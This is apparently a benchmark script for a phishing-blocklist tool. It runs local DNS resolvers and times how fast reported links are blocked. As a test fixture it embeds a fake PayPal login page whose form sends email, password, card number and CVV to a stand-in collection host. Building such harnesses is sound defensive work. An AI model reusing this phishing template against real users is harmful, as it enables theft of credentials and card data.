"""From a report to NXDOMAIN at secondary resolvers, for scripts/bench-publish.

Acts as systemd would: each path unit's file is watched, and the unit's own commands run when it is there. The primary and the
secondaries are those of packaging/distribution with the addresses of loopback in them. While reports are measured, 200 other links
are under crawl at any time, a third of them on a server that never answers.

usage: report-to-resolver.py ZHALAN WORK REPORTS NAMES BACKGROUND
"""
import http.server
import os
import random
import re
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

SECRET = "c2VjcmV0IG9mIHRoZSBleGFtcGxlcyBvbmx5ISEhISE="
PRIMARY = "127.77.0.1"
SECONDARIES = {"BIND": "127.77.0.12", "PowerDNS": "127.77.0.13", "unbound": "127.0.0.1"}
UPSTREAM = 5399
WEB = 8080
PATIENCE = 180

zhalan, work, reports, names, background = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])
state = work + "/state"
checkout = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
common = ["--config", work + "/zhalan.toml", "--state", state, "--lists", checkout + "/lists", "--quiet"]


# -- the internet: pages, and a name server that knows every name

FRAUD = b"""<!doctype html><html><head><title>PayPal - account limited</title></head><body><h1>PayPal</h1>
<p>Your PayPal account has been limited. Log in and confirm your card within 24 hours or it will be closed.</p>
<form action="http://collect.example/save.php" method="post"><label>Email<input name="email" type="email"></label>
<label>Password<input name="password" type="password"></label><label>Card number<input name="card"></label>
<label>CVV<input name="cvv"></label><button>Log in</button></form></body></html>"""
HONEST = b"""<!doctype html><html><head><title>Notes on gardening</title></head><body><h1>Notes on gardening</h1>
<p>Sow peas in March, beans in May. Water in the evening.</p><a href="/more">More</a></body></html>"""


class Page(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        host = self.headers.get("Host", "")
        if "stall" in host:
            time.sleep(60)
            return
        body = FRAUD if host.startswith("paypal-") else HONEST
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Web(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 1024

    def handle_error(self, *_):
        pass


def answer_names():
    """Every name has an address for a minute, so that resolvers have it in their caches before it is listed."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", UPSTREAM))
    while True:
        query, who = server.recvfrom(4096)
        end = query.index(b"\0", 12) + 5
        kind = struct.unpack(">H", query[end - 4 : end - 2])[0]
        record = b"\xc0\x0c" + struct.pack(">HHIH4B", 1, 1, 60, 4, 192, 0, 2, 7) if kind == 1 else b""
        head = query[:2] + b"\x85\x80" + struct.pack(">HHHH", 1, 1 if record else 0, 0, 0)
        server.sendto(head + query[12:end] + record, who)


def is_blocked(name, address):
    query = struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(1)
        try:
            client.sendto(query, (address, 53))
            reply = client.recv(4096)
        except OSError:
            return False
    return reply[:2] == query[:2] and reply[3] & 15 == 3


# -- the resolvers

daemons = []
is_over = threading.Event()


def shipped(name, folder):
    text = open(f"{checkout}/packaging/distribution/{name}").read()
    replacements = [
        ("192.0.2.11", "127.77.0.11"), ("192.0.2.12", "127.77.0.12"), ("192.0.2.13", "127.77.0.13"), ("192.0.2.1", PRIMARY),
        (f"listen-on {{ {PRIMARY}; 127.0.0.1; }}", f"listen-on {{ {PRIMARY}; }}"),
    ]
    for path in ("/etc/bind", "/var/lib/bind", "/var/cache/bind", "/var/lib/nsd", "/var/lib/unbound", "/var/lib/pdns-recursor", "/etc/powerdns"):
        replacements.append((path, folder))
    for old, new in replacements:
        text = text.replace(old, new)
    return text


def daemon(program, folder, files, command, change=lambda text: text):
    os.makedirs(folder, exist_ok=True)
    with open(folder + "/xfr.zhalan.key", "w") as key:
        key.write(f'key "xfr.zhalan" {{ algorithm hmac-sha256; secret "{SECRET}"; }};\n')
    for index, (name, target) in enumerate(files):
        text = shipped(name, folder)
        with open(f"{folder}/{target}", "w") as file:
            file.write(change(text) if index == 0 else text)
    log = open(folder + "/log", "w")
    daemons.append(subprocess.Popen([program] + command, cwd=folder, stdout=log, stderr=log, stdin=subprocess.DEVNULL))


def start_resolvers():
    options = (
        "options {\n    pid-file none; session-keyfile none; dnssec-validation no; empty-zones-enable no;\n"
        f"    forward only; forwarders {{ 127.0.0.1 port {UPSTREAM}; }};"
    )
    control = 'key "control" { algorithm hmac-sha256; secret "emhhbGFuIHRlc3RzIG9ubHk="; };\n'
    primary = work + "/primary"
    with open(primary + "/rndc.conf", "w") as file:
        file.write(control + f'options {{ default-server {PRIMARY}; default-port 953; default-key "control"; }};\n')
    daemon(
        "named", primary, [("primary-bind.conf", "named.conf")], ["-g", "-n", "1", "-c", primary + "/named.conf"],
        lambda text: text.replace("options {", options, 1) + control
        + f'controls {{ inet {PRIMARY} port 953 allow {{ {PRIMARY}; 127.0.0.1; }} keys {{ "control"; }}; }};\n')
    folder = work + "/bind"
    daemon(
        "named", folder, [("secondary-bind.conf", "named.conf")], ["-g", "-n", "1", "-c", folder + "/named.conf"],
        lambda text: text.replace("options {", options, 1) + "controls { };\n")
    folder = work + "/powerdns"
    daemon(
        "pdns_recursor", folder, [("secondary-powerdns.conf", "recursor.conf"), ("secondary-powerdns.lua", "zhalan.lua")],
        ["--config-dir=" + folder],
        lambda text: text + f"daemon=no\ndisable-syslog=yes\nsocket-dir={folder}\nthreads=1\ndnssec=off\nsecurity-poll-suffix=\n"
        f"hint-file=no\nforward-zones-recurse=.=127.0.0.1:{UPSTREAM}\n")
    folder = work + "/hop"
    daemon(
        "nsd", folder, [("hop-nsd.conf", "nsd.conf")], ["-d", "-c", folder + "/nsd.conf"],
        lambda text: text + f'server:\n    username: ""\n    pidfile: "{folder}/pid"\n    server-count: 1\n'
        "remote-control:\n    control-enable: no\n")
    folder = work + "/unbound"
    daemon(
        "unbound", folder, [("secondary-unbound.conf", "unbound.conf")], ["-d", "-c", folder + "/unbound.conf"],
        lambda text: text + f'server:\n    chroot: ""\n    username: ""\n    pidfile: ""\n    use-syslog: no\n'
        f'    directory: "{folder}"\n    do-not-query-localhost: no\n    num-threads: 1\n'
        f'forward-zone:\n    name: "."\n    forward-addr: 127.0.0.1@{UPSTREAM}\n')


# -- systemd: path units and the services that they start

class Unit(threading.Thread):
    """A path unit: when its file is there (PathExists) or was written (PathChanged), the commands of its service run, one by one."""

    def __init__(self, path_unit, service, instance=""):
        super().__init__(daemon=True)
        text = open(f"{checkout}/packaging/systemd/{path_unit}").read()
        kind, path = re.search(r"^(PathExists|PathChanged)=(.*)$", text, re.M).groups()
        self.is_level, self.path = kind == "PathExists", path.replace("/var/lib/zhalan", state)
        commands = re.findall(r"^ExecStart=/usr/bin/zhalan (.*)$", open(f"{checkout}/packaging/systemd/{service}").read(), re.M)
        self.commands = [
            [zhalan] + re.sub(r" --state \S+", "", command).replace("%i", instance).split() + common for command in commands]
        self.name = service
        self.seen = self.stamp()
        self.runs = 0
        self.seconds = 0.0

    def stamp(self):
        try:
            found = os.stat(self.path)
            return (found.st_ino, found.st_mtime_ns)
        except FileNotFoundError:
            return None

    def run(self):
        while not is_over.is_set():
            now = self.stamp()
            if now is None or (not self.is_level and now == self.seen):
                time.sleep(0.01)
                continue
            self.seen = now
            start = time.time()
            for command in self.commands:
                process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
                daemons.append(process)
                errors = process.communicate()[1]
                daemons.remove(process)
                if process.returncode not in (0, 2, 75) and not is_over.is_set():
                    print(f"{self.name}: {command[1]} ended with {process.returncode}: {errors.decode()[-400:]}", flush=True)
                    break
            self.runs += 1
            self.seconds += time.time() - start


def report(links):
    subprocess.run(
        [zhalan, "report", "--from", "-", "--source", "desk"] + common, input="\n".join(links).encode(), check=True,
        stdout=subprocess.DEVNULL)


class Others(threading.Thread):
    """Other links: as many are reported as are needed for so many to be under crawl."""

    def __init__(self, count):
        super().__init__(daemon=True)
        self.count = count
        self.reported = 0

    def run(self):
        while self.count:
            kinds = ["stall" if index % 3 == 0 else "honest" for index in range(self.count)]
            report([f"http://{kind}{(self.reported + index) % HOSTS}.example/{self.reported + index}" for index, kind in enumerate(kinds)])
            self.reported += self.count
            # Stalled links are under crawl for as long as the crawler waits for one.
            time.sleep(20)


HOSTS = 2_000


def configure():
    hosts = [f"paypal-review-{index}.example" for index in range(reports + 1)]
    hosts += [f"{kind}{index}.example" for kind in ("stall", "honest") for index in range(HOSTS)]
    table = ", ".join(f'"{host}" = "127.0.{index // 250 + 1}.{index % 250 + 1}:{WEB}"' for index, host in enumerate(hosts))
    with open(work + "/zhalan.toml", "w") as file:
        file.write(
            f'[crawl]\ntest_permit = ["127.0.0.0/16:{WEB}"]\ntest_hosts = {{ {table} }}\n'
            f'[deploy]\nfiles = {{ "bind" = "{work}/primary/zhalan.zone" }}\naddresses = {{ "bind" = "{PRIMARY}:53" }}\n'
            f'controls = {{ "bind" = "{work}/primary/rndc.conf" }}\n')
    with open(work + "/names.txt", "w") as file:
        for index in range(names):
            file.write(f"n{index}.bad{index % 977}.example\n")


def wait_until(condition, what):
    deadline = time.time() + PATIENCE
    while not condition():
        if time.time() > deadline:
            for process in daemons:
                print(process.args[0], process.poll(), flush=True)
            raise SystemExit(f"not within {PATIENCE} s: {what}")
        time.sleep(0.05)


def percentile(values, part):
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * part))]


def main():
    for address in (PRIMARY, "127.77.0.11", "127.77.0.12", "127.77.0.13"):
        subprocess.run(["ip", "address", "replace", address + "/32", "dev", "lo"], check=True)
    threading.Thread(target=answer_names, daemon=True).start()
    threading.Thread(target=Web(("0.0.0.0", WEB), Page).serve_forever, daemon=True).start()
    configure()
    os.makedirs(work + "/primary")
    subprocess.run(
        [zhalan, "feed", "add", "names", work + "/names.txt", "--licence", "made", "--means", "fraud", "--sync"] + common, check=True,
        stdout=subprocess.DEVNULL)
    subprocess.run([zhalan, "publish"] + common, check=True, stdout=subprocess.DEVNULL)
    subprocess.run([zhalan, "deploy", "bind", "--file-only"] + common, check=True, stdout=subprocess.DEVNULL)
    start_resolvers()
    first = "n0.bad0.example"
    for label, address in SECONDARIES.items():
        wait_until(lambda: is_blocked(first, address), f"{label} serves the first release")
    units = [
        Unit("zhalan-crawl.path", "zhalan-crawl.service"), Unit("zhalan-publish.path", "zhalan-publish.service"),
        Unit("zhalan-deploy@.path", "zhalan-deploy@.service", "bind"),
    ]
    for unit in units:
        unit.start()
    Others(background).start()
    time.sleep(5)
    times = {label: [] for label in SECONDARIES}
    for index in range(reports):
        name = f"paypal-review-{index}.example"
        start = time.time()
        report([f"http://{name}/signin?{index}"])
        left = dict(SECONDARIES)
        while left and time.time() < start + PATIENCE:
            for label, address in list(left.items()):
                if is_blocked(name, address):
                    times[label].append(time.time() - start)
                    del left[label]
            time.sleep(0.05)
        for label in left:
            print(f"{name} is not blocked by {label} after {PATIENCE} s", flush=True)
            times[label].append(float("inf"))
        # Reports come when they come, not when the one before is through.
        time.sleep(random.Random(index).uniform(0, 2))
    for label, values in times.items():
        print(f"{label}\t{percentile(values, 0.5):.2f}\t{percentile(values, 0.99):.2f}\t{max(values):.2f}")
    for unit in units:
        print(f"# {unit.name}: {unit.runs} runs, {unit.seconds / max(1, unit.runs):.2f} s each", file=sys.stderr)


try:
    main()
finally:
    # What a unit started goes too: it would write into the folder that is removed now.
    is_over.set()
    for process in list(daemons):
        process.send_signal(signal.SIGKILL)
        process.wait()
